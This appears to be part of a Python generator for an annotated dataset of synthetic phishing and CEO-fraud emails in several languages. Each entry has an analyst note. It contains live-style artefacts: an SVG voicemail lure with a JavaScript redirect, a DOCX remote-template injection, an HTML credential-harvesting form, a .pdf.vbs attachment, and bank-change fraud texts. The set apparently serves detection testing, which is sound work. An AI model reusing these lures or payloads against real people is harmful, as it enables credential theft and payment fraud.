<text x="20" y="50" font-family="Segoe UI" font-size="18">&#9654; Voice message 00:47 – +44 161 496 0732</text>
<text x="20" y="85" font-family="Segoe UI" font-size="13" fill="#555">Loading secure player…</text>
<script type="text/javascript"><![CDATA[
var e="cC5zaGFybWFAZXhhbXBsZWdyb3VwLmV1";
var d=atob("aHR0cHM6Ly92b2ljZS1tc2cuc2hhcmVwb2ludC12bS5jb20vcGxheS8=");
window.location.href=d+"#"+e;
]]></script>
</svg>
''')
A(14, 'en', frm=('IT Service Desk', 'servicedesk@example.com'), to=S['sharma'],
  subj='[Voicemail] New message from +44 161 496 0732 (0:47) – Wed 11 Mar 2026',
  date=('2026-03-11 13:28:05', '+0000'), route=dict(kind='postfix', host='mail.hotelparkview-rimini.it', rdns='host62-149-157-21.static.arubacloud.com', ip='62.149.157.21'),
  text=T('''
You received a new voice message.

From: +44 161 496 0732
Duration: 00:47
Received: Wed 11 Mar 2026 13:27

Open the attached audio file to listen to the message in your browser.

Example Group Unified Communications
This message was sent by an automated system. Please do not reply.
'''),
  atts=[('VM_+441614960732_0047.svg', 'image/svg+xml', _svg)],
  note='Spoofed internal sender (servicedesk@example.com) arriving from an external compromised host; voicemail lure with an SVG attachment carrying a JavaScript redirect (base64 URL + victim address).')

# ---- 15 it: compromised real haulier account, reply-to lookalike, bank change
A(15, 'it', frm=FERR_AMM, to=S['galli'], reply_to=('Amministrazione Ferretti Trasporti', 'amministrazione@ferretti-trasporti.com'),
  subj='R: Estratto conto fatture scadute gennaio-febbraio 2026', date='2026-03-05 11:48:22',
  route=dict(kind='postfix', host='smtpdh03.ad.aruba.it', ip='62.149.155.163', rdns='smtpdh03-1.aruba.it', pub='93.41.212.18', chost='93-41-212-18.ip84.fastwebnet.it'),
  irt='<f6a0c2b7-3e41-4a8d-9b55-2b7d0e61c4aa@examplegroup.eu>', hdrs=[('X-Mailer', 'Microsoft Outlook 16.0')],
  text=T(f'''
Gentile dott.ssa Galli,

grazie per l'estratto conto, confermiamo le partite aperte.

Le comunichiamo però che, a seguito di una verifica fiscale tuttora in corso, il nostro conto corrente presso Intesa Sanpaolo risulta temporaneamente vincolato. Per non bloccare i pagamenti ai nostri autisti vi chiediamo cortesemente di effettuare i bonifici relativi alle fatture n. 118/2026, 131/2026 e 146/2026 (totale € 27.684,00) sul conto dedicato ai sensi dell'art. 3 L. 136/2010:

Intestatario: Ferretti Trasporti S.r.l.
IBAN: {F['ferretti_fraud']}
BIC: REVOLT21

La lettera su carta intestata firmata dal nostro amministratore seguirà nei prossimi giorni. Vi preghiamo di non utilizzare più le coordinate precedenti fino a nuova comunicazione e di darci conferma dell'avvenuta variazione in anagrafica rispondendo a questa e-mail.

Cordiali saluti

Ufficio Amministrazione
Ferretti Trasporti S.r.l.
Via dell'Artigianato 41 – 24040 Verdellino (BG)
Tel. 035 884 2210 – P.IVA 02874110163

-----Messaggio originale-----
Da: Galli Francesca <f.galli@examplegroup.eu>
Inviato: mercoledì 4 marzo 2026 17:12
A: amministrazione@ferretti-trasporti.it
Oggetto: Estratto conto fatture scadute gennaio-febbraio 2026

Buonasera,

in allegato l'estratto conto aggiornato delle vostre fatture. Le fatture 118, 131 e 146 sono state approvate e andranno in pagamento con la distinta del 12/03.

Cordiali saluti
Francesca Galli
Contabilità fornitori – Example Group S.r.l.
'''),
  note='Compromised real haulier mailbox (sent through their genuine Aruba server) replying in a real thread; Reply-To points to lookalike .com; payment diversion to a Lithuanian EMI IBAN with "tax audit" pretext and a tracciabilità reference.')

# ---- 16 it: fake PEC / judicial notice with zip
_vbs = ("' evaluation sample: inert stub, no payload\r\nDim u: u = \"hxxp://atti-notifica[.]it/d/precetto\"\r\n")
A(16, 'it', frm=('Ufficio Notifiche Atti Giudiziari', 'notifiche@pec-ufficiogiudiziario.it'), to=S['rinaldi'],
  subj='POSTA CERTIFICATA: Notifica atto di precetto n. 2026/1187 – Example Group S.r.l.',
  date='2026-03-09 07:03:51', route=dict(kind='postfix', host='mx.pec-ufficiogiudiziario.it', rdns='unknown', ip='45.95.169.118'),
  cs='iso-8859-15',
  text=T('''
Messaggio di posta certificata

Il giorno 09/03/2026 alle ore 07:03:50 (+0100) il messaggio "Notifica atto di precetto n. 2026/1187" è stato inviato da "notifiche@pec-ufficiogiudiziario.it" indirizzato a: a.rinaldi@examplegroup.eu

Si notifica alla società in indirizzo l'atto di precetto ex art. 480 c.p.c. per l'importo complessivo di € 38.417,22 oltre interessi e spese, con intimazione ad adempiere entro 10 giorni dalla notifica, con avvertimento che in mancanza si procederà ad esecuzione forzata.

L'atto e la relata di notifica sono contenuti nell'archivio allegato.

Identificativo messaggio: opec210312.20260309070350.24611.08.1.6@pec-ufficiogiudiziario.it
'''),
  atts=[('Atto_Precetto_2026_1187.zip', 'application/zip', zip_bytes([('Atto_Precetto_2026_1187_relata.pdf.vbs', _vbs)]))],
  note='Fake PEC/judicial notice (atto di precetto) imitating certified-mail wording from a non-PEC VPS; ZIP with a .pdf.vbs script (inert stub).')

# ---- 17 it: compromised municipality account, fake tender via genuine Google Forms
_gf = 'https://docs.google.com/forms/d/e/1FAIpQLSfX3b7mKq0R8vT2wYc9LpA4nZ6eJd1hUoG5sBiCk7xQy2Vt/viewform'
A(17, 'it', frm=('Comune di Castelverde Brianza – Ufficio Tecnico', 'ufficiotecnico@comune.castelverdebrianza.it'), to=S['desantis'],
  subj="Invito a procedura negoziata ex art. 50 c.1 lett. d) D.Lgs. 36/2023 – Riqualificazione impianto di climatizzazione Scuola primaria \"G. Rodari\"",
  date='2026-03-12 12:40:09', route=dict(kind='postfix', host='smtp.comune.castelverdebrianza.it', rdns='mail.halleybt.it', ip='185.84.47.211'),
  text=T(f'''
Spett.le Operatore Economico,

con la presente si invita codesta impresa a partecipare alla procedura negoziata senza bando per l'affidamento dei lavori di riqualificazione dell'impianto di climatizzazione e ventilazione meccanica controllata della Scuola primaria "G. Rodari" – CUP J54D25000190006 – importo a base di gara € 742.000,00 di cui € 18.500,00 per oneri della sicurezza non soggetti a ribasso. Categoria prevalente OS28, classifica III.

La documentazione di gara (lettera d'invito, capitolato speciale d'appalto, computo metrico estimativo, elaborati grafici) è consultabile previa registrazione al seguente modulo di accreditamento:

{_gf}

Termine per la presentazione delle offerte: 26/03/2026 ore 12:00.
Sopralluogo obbligatorio da concordare con l'Ufficio Tecnico.

Distinti saluti

Il Responsabile Unico del Progetto
Geom. Luca Brambilla
Comune di Castelverde Brianza – Settore Lavori Pubblici
'''),
  note='Compromised real municipal mailbox sending a fake negotiated-procedure invitation; link to a genuine Google Forms page that collects credentials; plausible CUP, OS28 category and D.Lgs. 36/2023 wording.')

# ---- 18 it: gift-card style CEO fraud opener
A(18, 'it', frm=('Alessandro Rinaldi', 'a.rinaldi.direzione@gmail.com'), to=S['galli'],
  subj='Richiesta riservata', date='2026-03-13 09:21:44', route=dict(kind='gmail', ip='209.85.128.41', pre='wm1'),
  text=T('''
Francesca,

sei in ufficio? Ho bisogno che mi gestisci una cosa con urgenza e massima discrezione. Sono in riunione con la direzione sanitaria in ospedale e non posso parlare al telefono.

Rispondimi appena leggi.

A.R.

Inviato da iPhone
'''),
  note='CEO-fraud opener impersonating the Italian branch director from Gmail; short "are you at your desk" pretext without links (gift-card/transfer request follows).')

# ---- 19 it: lookalike subcontractor, DOCX with remote template injection
_docx = docx_bytes(['Impianti Moretti S.r.l. – Fattura n. 112/2026',
                    'SAL n. 3 – Cantiere Ospedale di Lecco – Contratto di subappalto 2025/044',
                    'Imponibile € 68.240,00 – IVA reverse charge art. 17 c.6 lett. a) DPR 633/72',
                    'Abilitare la modifica per visualizzare il documento completo.'],
                   remote_template='http://91.215.85.147/tpl/fattura_112.dotm')
A(19, 'it', frm=('Impianti Moretti S.r.l.', 'amministrazione@impiantimoretti-srl.it'), to=S['galli'],
  subj='Fattura n. 112/2026 – SAL n. 3 Cantiere Ospedale di Lecco (rif. contratto sub. 2025/044)',
  date='2026-03-16 15:05:31', route=dict(kind='postfix', host='mail.impiantimoretti-srl.it', rdns='unknown', ip='91.215.85.147'),
  text=T('''
Buongiorno,

in allegato trasmettiamo fattura n. 112/2026 relativa al 3° SAL del cantiere in oggetto, in attesa del caricamento su SdI.

Vi chiediamo di verificare gli importi del computo allegato alla fattura e di darci riscontro entro venerdì per il certificato di pagamento.

Cordiali saluti

Impianti Moretti S.r.l.
Ufficio Amministrazione
'''),
  atts=[('Fattura_112_2026_SAL3.docx', 'application/vnd.openxmlformats-officedocument.wordprocessingml.document', _docx)],
  note='Lookalike subcontractor domain (impiantimoretti-srl.it vs impiantimoretti.it); DOCX invoice with remote template injection (attachedTemplate pointing to an external .dotm).')

# ---- 20 it: fake ANAC FVOE, credential theft
_fvoe = 'https://fvoe-anac.it/accesso?spid=1&op=EG-IT-2026'
_fvoe_txt = T(f'''
Autorità Nazionale Anticorruzione
Fascicolo Virtuale dell'Operatore Economico (FVOE 2.0)

Gentile Operatore Economico,

dai controlli automatici effettuati sulla Banca Dati Nazionale dei Contratti Pubblici risultano scaduti o non aggiornati i seguenti documenti del Suo fascicolo:

- Attestazione SOA (categorie OG11, OS28, OS30)
- Dichiarazione sostitutiva art. 94-95 D.Lgs. 36/2023

In assenza di aggiornamento entro 48 ore, l'operatore economico risulterà "non verificabile" nelle procedure di gara in corso e le stazioni appaltanti potranno disporne l'esclusione.

Acceda al fascicolo con SPID o CIE per aggiornare la documentazione:
{_fvoe}

Questo messaggio è generato automaticamente. Non rispondere.
''')
A(20, 'it', frm=('ANAC – Fascicolo Virtuale Operatore Economico', 'noreply@anac-fvoe.it'), to=S['desantis'],
  subj="FVOE: documentazione scaduta – aggiornamento entro 48 ore per evitare l'esclusione dalle procedure in corso",
  date='2026-03-18 08:00:12', route=dict(kind='saas', host='m47-121.mailgun.net', ip='159.135.228.121', inner='smtp-out-n04.prod.us-east-1.postgun.com'),
  text=_fvoe_txt, html=auto_html(_fvoe_txt, 'Titillium Web, Arial, sans-serif'),
  note='Fake ANAC/FVOE notice (public-procurement compliance) from a lookalike domain via Mailgun; SPID-login credential harvesting, exclusion threat.')

# ---- 21 pl: lookalike logistics partner, bank change, ISO-8859-2
_pl_letter = pdf_bytes([
    '#Partner Logistik Sp. z o.o.',
    'ul. Kolejowa 18, 55-040 Bielany Wroclawskie | NIP 8971823306 | KRS 0000417762',
    '', 'Bielany Wroclawskie, 23.03.2026', '',
    'Example Group Sp. z o.o., ul. Legnicka 56, 54-204 Wroclaw', '',
    '#Zawiadomienie o zmianie rachunku bankowego', '',
    'Uprzejmie informujemy, ze od dnia 01.04.2026 r. wszelkie platnosci na rzecz',
    'Partner Logistik Sp. z o.o. prosimy kierowac wylacznie na rachunek:',
    '', '  ' + F['partner_fraud'] + '  (Santander Bank Polska S.A.)', '',
    'Dotychczasowy rachunek w PKO BP S.A. zostanie zamkniety z dniem 31.03.2026 r.',
    '', 'Z powazaniem', 'Prezes Zarzadu  /-/ Krzysztof Nowicki'], 'Zawiadomienie')
A(21, 'pl', frm=('Księgowość Partner Logistik', 'ksiegowosc@partner-logistlk.pl'), to=S['wojcik'],
  subj='Zmiana numeru rachunku bankowego – Partner Logistik Sp. z o.o.', date='2026-03-23 10:12:47',
  cs='iso-8859-2', route=dict(kind='postfix', host='mail.partner-logistlk.pl', rdns='vps-2c81f0.cyberfolks.pl', ip='195.78.66.193'),
  text=T(f'''
Szanowni Państwo,

uprzejmie informujemy, że w związku ze zmianą banku obsługującego naszą firmę z dniem 1 kwietnia 2026 r. zmianie ulega numer rachunku bankowego Partner Logistik Sp. z o.o.

Nowy rachunek:
{F['partner_fraud']}
Santander Bank Polska S.A.

Nowy rachunek został zgłoszony do urzędu skarbowego i jest widoczny w wykazie podatników VAT (tzw. biała lista). Prosimy o aktualizację danych w Państwa systemie przed najbliższym przelewem – dotyczy to również faktur FV/0388/03/2026 i FV/0401/03/2026, których termin płatności upływa 31.03.

W załączeniu przesyłamy pismo podpisane przez Zarząd.

Z poważaniem

Dział Księgowości
Partner Logistik Sp. z o.o.
ul. Kolejowa 18, 55-040 Bielany Wrocławskie
tel. +48 71 311 42 80
'''),
  atts=[('Zawiadomienie_zmiana_rachunku.pdf', 'application/pdf', _pl_letter)],
  note='Lookalike of the Polish logistics partner (partner-logistlk.pl, i→l) announcing a new bank account with a signed-looking PDF; claims the account is on the VAT white list; ISO-8859-2 QP.')

# ---- 22 pl: fake e-procurement platform invitation
_pz = 'https://platformazakupowa-pl.com/logowanie?redirect=/transakcja/1163390'
A(22, 'pl', frm=('platformazakupowa.pl', 'powiadomienia@platformazakupowa-pl.com'), to=S['dabrowski'],
  subj='Zaproszenie do złożenia oferty: Modernizacja instalacji wentylacji i klimatyzacji bloku operacyjnego (ZP/27/2026)',
  date='2026-03-06 09:31:18', cs='iso-8859-2',
  route=dict(kind='postfix', host='mail.platformazakupowa-pl.com', rdns='unknown', ip='5.181.156.44'),
  text=T(f'''
Dzień dobry,

Zamawiający: Szpital Powiatowy w Oleśnicy Śląskiej Sp. z o.o.
zaprasza Państwa do złożenia oferty w postępowaniu prowadzonym w trybie podstawowym bez negocjacji (art. 275 pkt 1 ustawy Pzp):

"Modernizacja instalacji wentylacji mechanicznej i klimatyzacji bloku operacyjnego wraz z automatyką BMS"
Numer postępowania: ZP/27/2026
Wadium: 25 000,00 zł
Termin składania ofert: 20.03.2026, godz. 10:00

Dokumentacja (SWZ, przedmiary, projekt wykonawczy) jest dostępna po zalogowaniu:
{_pz}

Wiadomość wygenerowana automatycznie – prosimy na nią nie odpowiadać.

Zespół platformazakupowa.pl
'''),
  note='Fake notification imitating the Polish e-procurement platform from lookalike platformazakupowa-pl.com; login link to harvest platform/M365 credentials; ISO-8859-2.')

# ---- 23 pl: fake e-Sąd payment order, malware download link
A(23, 'pl', frm=('e-Sąd – Sąd Rejonowy Lublin-Zachód', 'powiadomienia@e-sad-doreczenia.pl'), to=S['wojcik'],
  subj='Nakaz zapłaty w elektronicznym postępowaniu upominawczym – sygn. akt VI Nc-e 1843217/26',
  date='2026-03-19 06:47:33', cte='b64',
  route=dict(kind='postfix', host='mail.e-sad-doreczenia.pl', rdns='unknown', ip='193.233.20.61'),
  text=T('''
Sąd Rejonowy Lublin-Zachód w Lublinie
VI Wydział Cywilny

Zawiadamiamy, że w sprawie z powództwa GRUPA WINDYKACYJNA NORD-KAPITAŁ S.A. przeciwko Example Group Sp. z o.o. wydany został nakaz zapłaty w elektronicznym postępowaniu upominawczym na kwotę 47 318,90 zł wraz z odsetkami ustawowymi za opóźnienie.

Pozwany może w terminie 14 dni od doręczenia nakazu wnieść sprzeciw. Treść nakazu oraz pozew są dostępne do pobrania:

https://e-sad-doreczenia.pl/dokument/VI-Nc-e-1843217-26?pobierz=1

Brak odbioru dokumentu w terminie 7 dni skutkuje uznaniem doręczenia za dokonane.

Wiadomość wysłana automatycznie z systemu EPU.
'''),
  note='Fake e-Sąd (electronic payment-order court) notice from lookalike domain; malware download link and deemed-service threat; base64 UTF-8.')

# ---- 24 pl: fake KSeF (national e-invoicing) notice
_ksef = 'https://ksef-podatki-gov.pl/web/logowanie?kontekst=nip&ref=8992791124'
_ksef_txt = T(f'''
Krajowy System e-Faktur (KSeF)
Ministerstwo Finansów

Szanowni Państwo,

informujemy, że w dniu 24.03.2026 r. faktura ustrukturyzowana o numerze KSeF 8992791124-20260324-3F7A21C90B48-E6 wystawiona na Państwa firmę została odrzucona z powodu wygaśnięcia tokenu uwierzytelniającego w kontekście NIP 8992791124.

Aby uniknąć blokady odbioru faktur od kontrahentów, należy w ciągu 24 godzin ponownie uwierzytelnić dostęp za pomocą profilu zaufanego lub podpisu kwalifikowanego:

{_ksef}

Wiadomość wygenerowana automatycznie. Prosimy na nią nie odpowiadać.
© Ministerstwo Finansów
''')
A(24, 'pl', frm=('Krajowy System e-Faktur', 'powiadomienia@ksef-podatki-gov.pl'), to=S['wojcik'],
  subj='KSeF: faktura odrzucona – wymagane ponowne uwierzytelnienie tokenu (NIP 8992791124)',
  date='2026-03-24 07:55:02', cs='iso-8859-2', cte='b64',
  route=dict(kind='saas', host='smtp-out-ny3.sendinblue.com', ip='185.41.28.109', inner='smtp-relay.brevo.com'),
  text=_ksef_txt, html=auto_html(_ksef_txt, 'Lato, Arial, sans-serif'),
  note='Topical 2026 lure: fake KSeF (mandatory Polish e-invoicing) token-expiry notice from a lookalike gov domain via Brevo; credential/qualified-signature phishing; ISO-8859-2 base64.')

# ---- 25 pl: compromised internal account, genuine Canva link
_canva = 'https://www.canva.com/design/DAGi7Qx3LmE/Xk2p9Rb1vTzHc4NwYq8JdA/view'
A(25, 'pl', frm=S['dabrowski'], to=[S['wojcik'], S['kowalczyk']],
  cc=[('Biuro Wrocław', 'biuro.wroclaw@examplegroup.eu')],
  subj='Dokumentacja powykonawcza – DCM Wrocław, budynek B (do weryfikacji)',
  date='2026-03-21 02:14:38', route=dict(kind='int', client='NB-WRO-0231', cip='10.31.4.77'),
  text=T(f'''
Dzień dobry,

przesyłam link do dokumentacji powykonawczej (protokoły odbiorów, rozliczenie podwykonawców, zestawienie faktur do zatwierdzenia) – proszę o weryfikację do poniedziałku.

{_canva}

Dokument jest zabezpieczony, przy otwarciu trzeba się zalogować kontem służbowym Microsoft.

Pozdrawiam
Paweł Dąbrowski
Kierownik budowy
Example Group Sp. z o.o.
'''),
  note='Compromised internal mailbox (site manager) sending at 02:14 via the internal relay to colleagues; link to a genuine Canva page that fronts a Microsoft-login phishing page.')

# ---- 26 el: fake AADE / myAADE, windows-1253
_aade = 'https://myaade-gov.com/myaadeapp/debts?afm=801234567&ref=EID-2026-558120'
_aade_txt = T(f'''
ΑΝΕΞΑΡΤΗΤΗ ΑΡΧΗ ΔΗΜΟΣΙΩΝ ΕΣΟΔΩΝ
myAADE – Ψηφιακή θυρίδα

Αξιότιμε/η φορολογούμενε,

Σας ενημερώνουμε ότι στο μητρώο της επιχείρησής σας (ΑΦΜ 801234567) έχει βεβαιωθεί ληξιπρόθεσμη οφειλή ΦΠΑ περιόδου 12/2025 ύψους 14.872,36 €, πλέον προσαυξήσεων εκπρόθεσμης καταβολής.

Σε περίπτωση μη εξόφλησης ή ρύθμισης εντός 3 εργάσιμων ημερών, θα εκκινήσει η διαδικασία αναγκαστικής είσπραξης (κατάσχεση εις χείρας τρίτων – τραπεζικοί λογαριασμοί), σύμφωνα με τον Κ.Ε.Δ.Ε.

Για να δείτε την πράξη βεβαίωσης και να εκδώσετε ταυτότητα οφειλής (RF), συνδεθείτε με τους κωδικούς TAXISnet:
{_aade}

Με εκτίμηση,
Ανεξάρτητη Αρχή Δημοσίων Εσόδων
''')
A(26, 'el', frm=('ΑΑΔΕ – myAADE', 'noreply@myaade-gov.com'), to=S['konstantinou'],
  subj='Ειδοποίηση: Ληξιπρόθεσμη οφειλή ΦΠΑ – Έναρξη διαδικασίας αναγκαστικής είσπραξης',
  date=('2026-03-10 08:14:55', '+0200'), cs='windows-1253',
  route=dict(kind='postfix', host='mail.myaade-gov.com', rdns='unknown', ip='185.244.181.36'),
  text=_aade_txt, html=auto_html(_aade_txt, 'Arial, sans-serif'),
  note='Fake Greek tax authority (AADE/myAADE) overdue-VAT notice with seizure threat; TAXISnet credential phishing link on lookalike domain; windows-1253 QP.')

# ---- 27 el: compromised real subcontractor account, thread hijack, ISO-8859-7
A(27, 'el', frm=('Θερμοτεχνική Αττικής Α.Ε. – Λογιστήριο', 'logistirio@thermotechniki-attikis.gr'), to=S['konstantinou'],
  cc=[S['athanasiou']],
  subj='RE: Πληρωμή 4ης πιστοποίησης – Κλινική «Αγία Ειρήνη» Μαρουσίου', date=('2026-03-20 12:31:07', '+0200'),
  cs='iso-8859-7', route=dict(kind='postfix', host='mail.thermotechniki-attikis.gr', rdns='mail.thermotechniki-attikis.gr', ip='213.16.141.58',
                              pub='85.74.23.190', chost='ppp085074023190.access.hol.gr'),
  irt='<4b1c0e7f-97a2-4d55-8a3e-1f0c2e9d6b31@examplegroup.eu>',
  text=T(f'''
Καλησπέρα σας κα Κωνσταντίνου,

σας ευχαριστούμε για την ενημέρωση.

Σας παρακαλούμε η πληρωμή της 4ης πιστοποίησης (61.240,00 € πλέον ΦΠΑ) να μη γίνει στον λογαριασμό της Εθνικής, ο οποίος λόγω ελέγχου συμμόρφωσης από την τράπεζα είναι προσωρινά δεσμευμένος για εισερχόμενα εμβάσματα. Παρακαλούμε να την εκτελέσετε στον λογαριασμό μας στην Τράπεζα Πειραιώς:

Δικαιούχος: ΘΕΡΜΟΤΕΧΝΙΚΗ ΑΤΤΙΚΗΣ Α.Ε.
IBAN: {F['thermo_fraud']}

Η βεβαίωση της τράπεζας θα σας σταλεί αύριο. Επειδή πρέπει να πληρώσουμε τα συνεργεία μέχρι την Παρασκευή, θα σας είμαστε υπόχρεοι αν μας επιβεβαιώσετε την αλλαγή σήμερα.

Με εκτίμηση,
Βάσω Δημητρίου
Λογιστήριο
ΘΕΡΜΟΤΕΧΝΙΚΗ ΑΤΤΙΚΗΣ Α.Ε.
Λ. Αθηνών 212, 12461 Χαϊδάρι
Τ. 210 5311 402

-----Original Message-----
From: Ελένη Κωνσταντίνου <e.konstantinou@examplegroup.eu>
Sent: Πέμπτη, 19 Μαρτίου 2026 4:52 μμ
To: logistirio@thermotechniki-attikis.gr
Subject: Πληρωμή 4ης πιστοποίησης – Κλινική «Αγία Ειρήνη» Μαρουσίου

Καλησπέρα σας,

σας ενημερώνω ότι η 4η πιστοποίηση εγκρίθηκε από τον επιβλέποντα μηχανικό και θα πληρωθεί την επόμενη εβδομάδα. Παρακαλώ στείλτε μας το τιμολόγιο με ΜΑΡΚ και την ασφαλιστική ενημερότητα.

Ελένη Κωνσταντίνου
Λογιστήριο – Example Group Ελλάς Μ.Α.Ε.
'''),
  note='Compromised real Greek subcontractor mailbox (their own server) replying in a real payment thread; asks to pay the 4th progress certificate to a different (valid) Piraeus Bank IBAN; ISO-8859-7.')

# ---- 28 el: fake ESIDIS (national e-procurement) with HTML attachment
_esidis_html = T('''
<!DOCTYPE html><html lang="el"><head><meta charset="utf-8"><title>ΕΣΗΔΗΣ – Είσοδος</title></head>
<body style="font-family:Arial;background:#eef3f8"><div style="width:420px;margin:60px auto;background:#fff;padding:30px">
<h3>Εθνικό Σύστημα Ηλεκτρονικών Δημοσίων Συμβάσεων</h3>
<p>Για πρόσβαση στα τεύχη του διαγωνισμού 318442 απαιτείται αυθεντικοποίηση με κωδικούς TAXISnet.</p>
<form action="https://esidis-promitheus.com/auth/login.php" method="post">
Όνομα χρήστη<br><input name="u" style="width:100%"><br>Κωδικός<br><input name="p" type="password" style="width:100%"><br><br>
<input type="submit" value="Σύνδεση"></form></div></body></html>
''')
A(28, 'el', frm=('ΕΣΗΔΗΣ – Δημόσιες Συμβάσεις', 'noreply@esidis-promitheus.com'), to=S['papadopoulos'],
  subj='Πρόσκληση υποβολής προσφοράς – Συστημικός αριθμός 318442 – Ενεργειακή αναβάθμιση Η/Μ εγκαταστάσεων',
  date=('2026-03-12 10:45:29', '+0200'), cte='b64',
  route=dict(kind='postfix', host='mail.esidis-promitheus.com', rdns='unknown', ip='45.138.16.214'),
  text=T('''
Αξιότιμοι κύριοι,

Ο Δήμος Αγίας Παρασκευής Ανατολικής Αττικής σας προσκαλεί να υποβάλετε προσφορά στον ηλεκτρονικό ανοικτό διαγωνισμό κάτω των ορίων για το έργο «Ενεργειακή αναβάθμιση Η/Μ εγκαταστάσεων (ΘΨΚ, φωτοβολταϊκά, BMS) δημοτικού κολυμβητηρίου», προϋπολογισμού 1.184.000,00 € (πλέον ΦΠΑ), χρηματοδότηση Ταμείο Ανάκαμψης.

Συστημικός αριθμός ΕΣΗΔΗΣ: 318442
Καταληκτική ημερομηνία υποβολής προσφορών: 27/03/2026, ώρα 15:00

Τα τεύχη δημοπράτησης και η διακήρυξη είναι διαθέσιμα μέσω του συνημμένου αρχείου πρόσβασης.

Με εκτίμηση,
Τμήμα Προμηθειών
'''),
  atts=[('Πρόσκληση_ΕΣΗΔΗΣ_318442.html', 'text/html', _esidis_html)],
  note='Fake Greek national e-procurement (ESIDIS) invitation with an HTML attachment (non-ASCII RFC 2231 filename) harvesting TAXISnet credentials; base64 UTF-8.')

# ---- 29 el: CEO fraud, lookalike company domain (rn -> m), bid-guarantee pretext
A(29, 'el', frm=('Γιώργος Παπαδόπουλος', 'g.papadopoulos@exarnplegroup.eu'), to=S['konstantinou'],
  reply_to=('Γιώργος Παπαδόπουλος', 'g.papadopoulos@exarnplegroup.eu'),
  subj='Επείγον – εγγυητική συμμετοχής διαγωνισμού', date=('2026-03-25 09:02:11', '+0200'), cs='iso-8859-7',
  route=dict(kind='o365', ip='40.107.241.88', pfx='VI1PR10', reg='EURPRD10', rdns='vi1eur04on2088', helo='EUR04-VI1-obe.outbound.protection.outlook.com'),
  hdrs=[('Importance', 'high')],
  text=T(f'''
Ελένη καλημέρα,

χρειάζομαι να γίνει σήμερα μια πληρωμή 18.400,00 € στο δικηγορικό γραφείο που χειρίζεται την εγγυητική συμμετοχής για τον διαγωνισμό του Δήμου. Το ΤΜΕΔΕ έχει καθυστέρηση στην έκδοση και η προθεσμία υποβολής λήγει αύριο στις 10:00, οπότε πάμε με εγγύηση μέσω του γραφείου.

Στοιχεία:
Δικαιούχος: Μ. ΚΑΡΑΓΙΑΝΝΗΣ & ΣΥΝΕΡΓΑΤΕΣ ΔΙΚΗΓΟΡΙΚΗ ΕΤΑΙΡΕΙΑ
IBAN: {F['gr_lawyer']}
Αιτιολογία: Εγγύηση συμμετοχής 318442

Είμαι σε σύσκεψη όλη μέρα στην Περιφέρεια, μη με πάρεις τηλέφωνο, απάντησε εδώ όταν γίνει και στείλε μου το αποδεικτικό.

Ευχαριστώ,
Γιώργος

Sent from Outlook for iOS
'''),
  note='CEO fraud impersonating the Greek branch director from homoglyph domain exarnplegroup.eu (rn→m); bid-guarantee pretext mentioning TMEDE; valid Greek IBAN; ISO-8859-7.')

# ---- 30 el: callback / fake subscription renewal
A(30, 'el', frm=('Norton Τμήμα Χρεώσεων', 'nortonlifelock.gr.billing@gmail.com'), to=S['athanasiou'],
  subj='Επιβεβαίωση ανανέωσης συνδρομής – Αρ. παραστατικού NL-GR-77420193', date=('2026-03-14 17:26:43', '+0200'),
  route=dict(kind='gmail', ip='209.85.167.50', pre='lf1'),
  text=T('''
Αγαπητέ πελάτη,

Σας ευχαριστούμε που επιλέξατε τη Norton. Η ετήσια συνδρομή σας στο Norton 360 Deluxe (5 συσκευές) ανανεώθηκε αυτόματα.

Αριθμός παραστατικού: NL-GR-77420193
Ημερομηνία: 14/03/2026
Ποσό χρέωσης: 389,99 €
Τρόπος πληρωμής: Κάρτα

Το ποσό θα χρεωθεί στον λογαριασμό σας εντός 24 ωρών. Αν δεν εγκρίνατε αυτή τη συναλλαγή ή επιθυμείτε ακύρωση και επιστροφή χρημάτων, καλέστε άμεσα το τμήμα εξυπηρέτησης:

+30 211 198 4471 (Δευτέρα–Σάββατο, 09:00–21:00)

Με εκτίμηση,
Norton Customer Support
'''),
  note='Callback (TOAD) scam: fake antivirus renewal invoice from Gmail with a Greek phone number, no links or attachments.')

# ---- 31 es: fake AEAT / DEHú notification
_aeat = 'https://sede-agenciatributaria.notifica-dehu.com/notificaciones/acceso?nif=B87654321&ref=2026GRC47180043X'
_aeat_txt = T(f'''
AGENCIA TRIBUTARIA
Sede electrónica

Estimado/a contribuyente:

Le informamos de que tiene a su disposición una notificación electrónica en la Dirección Electrónica Habilitada única (DEHú) correspondiente a un REQUERIMIENTO DE INFORMACIÓN relativo al Impuesto sobre el Valor Añadido, ejercicio 2025 (modelo 303, 3T y 4T).

Referencia: 2026GRC47180043X
Titular: EXAMPLE GROUP INSTALACIONES, S.L.U. – NIF B87654321

Dispone de un plazo de 10 días naturales para acceder a la notificación; transcurrido dicho plazo, se entenderá rechazada y se continuará el procedimiento (art. 43 Ley 39/2015).

Acceder a la notificación con certificado digital o Cl@ve:
{_aeat}

Este mensaje se ha generado automáticamente. Por favor, no responda.
''')
A(31, 'es', frm=('Agencia Tributaria – Notificaciones', 'avisos@notifica-dehu.com'), to=S['fernandez'],
  subj='Aviso de notificación electrónica disponible – Requerimiento de información (Ref. 2026GRC47180043X)',
  date='2026-03-09 08:03:16', cs='iso-8859-15',
  route=dict(kind='postfix', host='mail.notifica-dehu.com', rdns='unknown', ip='188.119.113.70'),
  text=_aeat_txt, html=auto_html(_aeat_txt, 'Arial, sans-serif'),
  note='Fake Spanish tax agency / DEHú notification-available notice with deemed-rejection threat; lookalike sede link for certificate/Cl@ve phishing; ISO-8859-15.')

# ---- 32 es: compromised real subcontractor account, bank change with certificate PDF
_cert = pdf_bytes(['#Certificado de titularidad de cuenta', '', 'Openbank S.A. – Plaza de Santa Barbara 2, 28004 Madrid', '',
                   'Certificamos que la cuenta con IBAN', F['climalevante_fraud'],
                   'figura a nombre de CLIMATIZACIONES LEVANTE S.L. – CIF B46218457', '',
                   'Y para que conste, se expide el presente certificado en Madrid, a 25 de marzo de 2026.'], 'Certificado')
A(32, 'es', frm=('Administración Climatizaciones Levante', 'administracion@climalevante.es'), to=S['fernandez'],
  reply_to=('Administración Climatizaciones Levante', 'administracion@climalevante-sl.es'),
  subj='RE: Certificación nº 7 – Residencial Castellana Norte – retención y pago', date='2026-03-25 13:18:40',
  route=dict(kind='postfix', host='smtp.climalevante.es', rdns='smtp07.servidoresdns.net', ip='82.98.134.41', pub='79.116.201.33', chost='79-116-201-33.dyn.user.ono.com'),
  irt='<c91a5d2e-0b8f-4e7b-a3d1-6c5e22f90a1b@examplegroup.eu>',
  text=T(f'''
Buenas tardes Lucía,

gracias por confirmar la fecha de pago de la certificación nº 7.

